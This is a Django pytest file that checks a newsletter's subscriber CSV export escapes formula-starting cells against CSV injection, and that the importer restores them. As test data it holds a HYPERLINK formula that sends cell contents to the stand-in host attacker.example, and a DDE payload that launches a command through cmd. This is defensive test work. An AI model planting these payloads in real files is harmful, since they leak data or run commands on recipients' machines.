"""The subscriber CSV export cannot run formulas in a spreadsheet (OWASP "CSV injection").

A spreadsheet treats a cell starting with =, +, -, @, a tab or a carriage return as a formula
(a tab or CR in front of = still leads to one in some programs), and some read full-width
signs the same way. Every text column a reader can fill (the address, the first name) gets a
leading single quote when it starts with any of them; the importer takes it off again.
"""

import csv
import io

import pytest

from subscriptions import services
from subscriptions.models import Subscriber
from tests.subscriptions.factories import active_subscriber

pytestmark = pytest.mark.django_db
PREFIXES = ["=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20"]
TEXT_COLUMNS = ["email", "first_name"]


def exported_rows(newsletter):
    exported = "".join(services.export_subscribers(newsletter))
    return list(csv.DictReader(io.StringIO(exported, newline="")))


@pytest.mark.parametrize("column", TEXT_COLUMNS)
@pytest.mark.parametrize("prefix", PREFIXES, ids=repr)
def test_every_formula_prefix_is_neutralised_in_every_text_column(newsletter, prefix, column):
    values = {"email": "reader@example.org", "first_name": "Mila"}
    values[column] = (
        prefix
        + 'HYPERLINK("https://attacker.example/?"&A1,"Click")'
        + ("@example.org" if column == "email" else "")
    )
    # Written straight to the row: the export must be safe whatever got into the database.
    active_subscriber(newsletter, email="other@example.org", first_name="Anna")
    Subscriber.objects.filter(
        pk=active_subscriber(newsletter, email="placeholder@example.org").pk
    ).update(**values)

    rows = {row["first_name"]: row for row in exported_rows(newsletter)}
    row = rows["'" + values["first_name"]] if column == "first_name" else rows["Mila"]

    assert row[column] == "'" + values[column]
    assert rows["Anna"]["email"] == "other@example.org"  # plain values are left alone


def test_names_with_every_prefix_come_back_unchanged_through_the_importer(newsletter, weekly):
    names = [f"{prefix}cmd|' /C calc'!A0" for prefix in PREFIXES]
    for number, name in enumerate(names):
        active_subscriber(newsletter, email=f"fan{number}@example.org", first_name=name)
    exported = "".join(services.export_subscribers(newsletter))
    assert all(row["first_name"].startswith("'") for row in exported_rows(newsletter))

    Subscriber.objects.all().delete()
    report = services.import_subscribers(rows_or_file=io.StringIO(exported), newsletter=weekly)

    assert (report.added, report.invalid) == (len(names), 0)
    restored = dict(Subscriber.objects.values_list("email", "first_name"))
    assert restored == {f"fan{n}@example.org": name for n, name in enumerate(names)}
